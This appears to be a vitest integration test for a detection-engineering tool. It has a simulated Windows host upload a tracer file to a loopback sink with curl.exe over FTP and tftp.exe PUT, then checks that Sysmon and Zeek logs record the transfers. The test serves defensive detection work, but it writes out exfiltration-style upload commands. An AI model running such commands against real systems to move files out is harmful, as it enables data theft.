import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Secret, systemClock, waitFor, type Endpoint } from '../../src/core/index.js';
import { sshExecutor, type Executor } from '../../src/executors/index.js';
import {
  combineFaults,
  createSimulatedHost,
  type ShippedRecord,
  type SimulatedHost,
  newKeyPair,
} from '../../src/simulator/index.js';
import { sinkFactories, type Receipt, type Sink } from '../../src/sinks/index.js';
import { describeWith } from '../helpers/requires.js';
import {
  expectUpload,
  finalReceipts,
  recordingSink,
  testTracer,
  type SinkRecorder,
} from '../helpers/sink-lab.js';

const hostAddress = '127.0.1.78';
const sinkAddress = '127.0.2.78';
const account = { user: 'dk3f9q2x', password: 'nonce-1234' };
const key = newKeyPair();
const bytes = 40_000;

interface Lab {
  readonly host: SimulatedHost;
  readonly executor: Executor;
  readonly shipped: ShippedRecord[];
  stop(): Promise<void>;
}

async function start(scratch: string, port: number, faults: readonly string[]): Promise<Lab> {
  const shipped: ShippedRecord[] = [];
  const host = createSimulatedHost({
    id: 'ws01',
    name: 'WS01',
    address: hostAddress,
    port: 0,
    shell: 'cmd',
    user: 'dyetrace',
    authorizedKey: key.public,
    marker: { path: 'C:\\ProgramData\\Dyetrace\\lab.txt', content: 'lab: test\r\n' },
    directory: scratch,
    services: { tftp: port, smb: 445 },
    smbclient: null,
    clock: systemClock,
    seed: 'seed',
    faults: combineFaults(faults),
    backgroundEvents: 200,
    ship: (record) => shipped.push(record),
  });
  const started = await host.start();
  const executor = sshExecutor({
    hostId: 'ws01',
    address: hostAddress,
    port: started.port,
    user: 'dyetrace',
    hostKey: started.hostKey,
    key: new Secret(key.private),
    connectTimeoutMs: 10_000,
  });
  return {
    host,
    executor,
    shipped,
    stop: async () => {
      await executor.close();
      await host.stop();
    },
  };
}

/** Source and destination, the opener first, as the sink's operating system knew them. */
const tuples = (receipt: Receipt): string[] =>
  receipt.sockets
    .map(({ source, destination }) => `${source.ip}:${source.port} > ${destination.ip}:${destination.port}`)
    .sort();

const toSink = (tuple: string) => tuple.includes(sinkAddress);

function fromWinlogbeat(shipped: readonly ShippedRecord[]): string[] {
  return shipped
    .filter(({ record }) => (record['event'] as { code?: string } | undefined)?.code === '3')
    .map(({ record }) => {
      const { source, destination } = record as unknown as { source: Endpoint; destination: Endpoint };
      return `${source.ip}:${source.port} > ${destination.ip}:${destination.port}`;
    })
    .filter(toSink)
    .sort();
}

const conn = (shipped: readonly ShippedRecord[]) =>
  shipped
    .filter(({ source }) => source === 'zeek-conn')
    .map(({ record }) => ({
      tuple: `${String(record['id.orig_h'])}:${String(record['id.orig_p'])} > ${String(record['id.resp_h'])}:${String(record['id.resp_p'])}`,
      record,
    }))
    .filter(({ tuple }) => toSink(tuple));

describeWith({ platforms: ['linux', 'win32'] }, 'sensors of a simulated host', () => {
  let scratch: string;
  let sink: Sink;
  let recorder: SinkRecorder;
  let lab: Lab;
  let receipt: Receipt;
  let sysmon: string;

  async function upload(
    protocol: 'ftp' | 'tftp',
    command: (at: Endpoint, file: string) => string,
    faults: string[],
  ) {
    scratch = await mkdtemp(join(tmpdir(), 'dyetrace-host-sensors-'));
    const tracer = testTracer(`sensors ${protocol}`, bytes);
    recorder = recordingSink({
      address: sinkAddress,
      clients: [hostAddress],
      account,
      directory: join(scratch, 'sink'),
      expected: [expectUpload(tracer)],
    });
    sink = sinkFactories.get(protocol)(recorder.options);
    const at = await sink.start();
    lab = await start(join(scratch, 'host'), at.port, faults);
    await lab.executor.makeDirectory('C:\\Dyetrace');
    await lab.executor.stage({
      path: `C:\\Dyetrace\\${tracer.fileName}`,
      // eslint-disable-next-line @typescript-eslint/require-await -- a generator that awaits nothing is still an AsyncIterable
      content: async function* () {
        yield tracer.bytes;
      },
    });
    const result = await lab.executor.run(command(at, tracer.fileName), { timeoutMs: 30_000 });
    expect(result).toMatchObject({ exitCode: 0 });
    await waitFor(() => recorder.lines.length > 0, { timeoutMs: 5000 });
    const query = await lab.executor.run(
      'wevtutil.exe qe Microsoft-Windows-Sysmon/Operational "/q:*[System[EventID=1 or EventID=3]]" /f:RenderedXml',
      { timeoutMs: 30_000, maxOutputBytes: 2 ** 24 },
    );
    expect(query.exitCode).toBe(0);
    sysmon = query.stdout;
    await lab.stop();
    await sink.stop();
    const [last] = finalReceipts(recorder.lines);
    if (last === undefined) throw new Error('no receipt');
    receipt = last;
  }
  const remove = () => rm(scratch, { recursive: true, force: true });

  describe('cmd.exe → curl.exe → FTP', () => {
    beforeAll(async () => {
      await upload(
        'ftp',
        (at, file) =>
          `cmd.exe /d /c curl.exe -s -T C:\\Dyetrace\\${file} -u ${account.user}:${account.password} ftp://${at.ip}:${at.port}/${file}`,
        [],
      );
    });
    afterAll(remove);

    it('Sysmon and Zeek name the sockets that the sink saw', () => {
      expect(receipt.complete).toBe(true);
      expect(fromWinlogbeat(lab.shipped)).toEqual(tuples(receipt));
      expect(
        conn(lab.shipped)
          .map(({ tuple }) => tuple)
          .sort(),
      ).toEqual(tuples(receipt));
    });

    it('the bytes in conn.log are those of the receipt', () => {
      for (const socket of receipt.sockets) {
        const row = conn(lab.shipped).find(({ tuple }) =>
          tuple.startsWith(`${socket.source.ip}:${socket.source.port} `),
        );
        expect(row?.record).toMatchObject({
          orig_bytes: socket.bytesFromClient,
          resp_bytes: socket.bytesToClient,
        });
      }
    });

    it('ftp.log ties the upload to the data connection', () => {
      const rows = lab.shipped.filter(({ source }) => source === 'zeek-ftp').map(({ record }) => record);
      const stor = rows.find((row) => row['command'] === 'STOR' && row['id.resp_h'] === sinkAddress);
      const files = lab.shipped.filter(({ source }) => source === 'zeek-files').map(({ record }) => record);
      const file = files.find((row) => row['fuid'] === stor?.['fuid']);
      expect(stor).toMatchObject({ reply_code: 226, user: account.user });
      expect(file).toMatchObject({ source: 'FTP_DATA', is_orig: true, seen_bytes: bytes });
      expect(conn(lab.shipped).map(({ record }) => record['uid'])).toContain(file?.['uid']);
      expect(JSON.stringify(rows)).not.toContain(account.password);
    });

    it('the process tree leads from sshd.exe to the owner of the sockets', () => {
      const processes = lab.shipped
        .filter(({ record }) => (record['event'] as { code?: string } | undefined)?.code === '1')
        .map(
          ({ record }) =>
            record['process'] as {
              name: string;
              entity_id: string;
              parent: { entity_id: string; name: string };
            },
        );
      const curl = processes.find(({ name }) => name === 'curl.exe');
      const inner = processes.find(({ entity_id: id }) => id === curl?.parent.entity_id);
      const outer = processes.find(({ entity_id: id }) => id === inner?.parent.entity_id);
      expect([inner?.name, outer?.name, outer?.parent.name]).toEqual(['cmd.exe', 'cmd.exe', 'sshd.exe']);
    });

    it("the host's own channel has the same events, and the background", () => {
      expect(sysmon).toContain(`<Data Name='DestinationIp'>${sinkAddress}</Data>`);
      expect(sysmon).toContain("<Data Name='DestinationIp'>10.20.0.30</Data>");
      expect(lab.shipped.length).toBeGreaterThan(200);
    });
  });

  describe('cmd.exe → tftp.exe, with Sysmon 3 and 5156 off', () => {
    beforeAll(async () => {
      await upload(
        'tftp',
        (at, file) => `cmd.exe /d /c tftp.exe -i ${at.ip} PUT C:\\Dyetrace\\${file} ${file}`,
        ['network-events-off'],
      );
    });
    afterAll(remove);

    it('neither the SIEM nor the host has a connection; the flows are there', () => {
      expect(fromWinlogbeat(lab.shipped)).toEqual([]);
      expect(sysmon).not.toContain('<EventID>3</EventID>');
      expect(sysmon).toContain('tftp.exe');
      const rows = conn(lab.shipped);
      expect(rows.map(({ tuple }) => tuple).sort()).toEqual(tuples(receipt));
      const transfer = receipt.sockets.find(({ role }) => role === 'transfer');
      const row = rows.find(({ record }) => record['id.orig_p'] === transfer?.source.port);
      expect(row?.record).toMatchObject({
        resp_bytes: transfer?.bytesFromClient,
        orig_bytes: transfer?.bytesToClient,
      });
      const request = rows.find(({ record }) => record['conn_state'] === 'S0');
      expect(request?.record).not.toHaveProperty('orig_bytes');
    });
  });
});
